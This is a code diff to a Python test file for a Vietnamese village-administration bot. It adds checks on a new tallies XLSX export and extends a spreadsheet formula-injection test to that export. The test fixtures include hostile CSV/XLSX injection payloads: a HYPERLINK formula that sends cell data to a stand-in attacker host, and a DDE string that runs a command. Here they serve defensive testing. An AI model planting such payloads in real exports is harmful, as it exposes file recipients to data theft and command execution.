@@ -14,7 +14,7 @@ from bot.i18n import translator
 from bot.plans.status import STATUS_LABELS, VERDICT_LABELS
 from bot.plans.store import indicator_views, plan_tasks
 from bot.services import Services
-from bot.tallies.codes import CODE_NAMES
+from bot.tallies.codes import CODE_LABELS, CODE_NAMES
 from bot.web.access import Viewer
 from bot.web.exports import (
     INDICATOR_HEADERS,
@@ -22,6 +22,7 @@ from bot.web.exports import (
     csv_text,
     indicators_xlsx,
     tallies_csv,
+    tallies_xlsx,
     tasks_xlsx,
 )
 from db.models import Evidence, Indicator, Plan, Tally, Task, Unit, Village
@@ -171,6 +172,36 @@ def test_tallies_csv_matches_the_database(seeded: Seeded, services: Services) ->
     assert months == sorted(months)
 
 
+def test_tallies_xlsx_has_vietnamese_labels_and_the_same_figures(
+    seeded: Seeded, services: Services
+) -> None:
+    today = services.clock().astimezone(services.tz).date()
+    with Session(services.engine) as session:
+        viewer = office(seeded, services)
+        csv_file = tallies_csv(session, viewer, today)
+        file = tallies_xlsx(session, viewer, T, today)
+    assert file.file_name == f"so-lieu-{today:%Y-%m-%d}.xlsx"
+    assert file.mime_type.endswith("spreadsheetml.sheet")
+    headers, rows = _table(file.data, "Tháng")
+    assert headers == ["Tháng", "Thôn/Xóm", *(T.gettext(CODE_LABELS[c]) for c in CODE_NAMES)]
+    assert headers[2:4] == ["VNeID mức 2", "Chữ ký số"]
+    sheet = load_workbook(io.BytesIO(file.data)).active
+    assert sheet is not None
+    title = str(sheet.cell(row=1, column=1).value)
+    assert title == "SỐ LIỆU CÁC THÔN/XÓM THEO THÁNG"
+    assert sheet.freeze_panes is not None
+    # The same rows as the CSV; the month a text ("08/2026"), never a date.
+    reader = list(csv.reader(io.StringIO(csv_file.data.decode("utf-8-sig"))))[1:]
+    expected = [
+        (f"{row[0][5:]}/{row[0][:4]}", row[1], *(int(v) if v else None for v in row[2:]))
+        for row in reader
+    ]
+    assert [tuple(row) for row in rows] == expected
+    assert all(isinstance(row[0], str) for row in rows)
+    month_cells = [sheet.cell(row=r, column=1) for r in range(1, sheet.max_row + 1)]
+    assert all(cell.data_type == "s" for cell in month_cells if cell.value is not None)
+
+
 POISON = (
     '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
     "+cmd|' /C calc'!A0",
@@ -216,6 +247,7 @@ def test_no_text_becomes_a_formula(seeded: Seeded, services: Services) -> None:
             tasks_xlsx(session, viewer, T, today, "http://x"),
         ]
         tallies = tallies_csv(session, viewer, today)
+        files.append(tallies_xlsx(session, viewer, T, today))
     seen = set()
     for file in files:
         sheet_xml = zipfile.ZipFile(io.BytesIO(file.data)).read("xl/worksheets/sheet1.xml")
@@ -227,8 +259,8 @@ def test_no_text_becomes_a_formula(seeded: Seeded, services: Services) -> None:
                 if isinstance(cell.value, str) and cell.value.startswith(DANGEROUS):
                     assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
                     seen.add(cell.value)
-    # The village is only in the tallies file; XML reads a carriage return back as a newline.
-    assert {p.replace("\r", "\n") for p in POISON if p != POISON[3]} <= seen
+    # XML reads a carriage return back as a newline.
+    assert {p.replace("\r", "\n") for p in POISON} <= seen
     rows = list(csv.reader(io.StringIO(tallies.data.decode("utf-8-sig"))))
     names = {row[1] for row in rows[1:]}
     assert "'" + POISON[3] in names
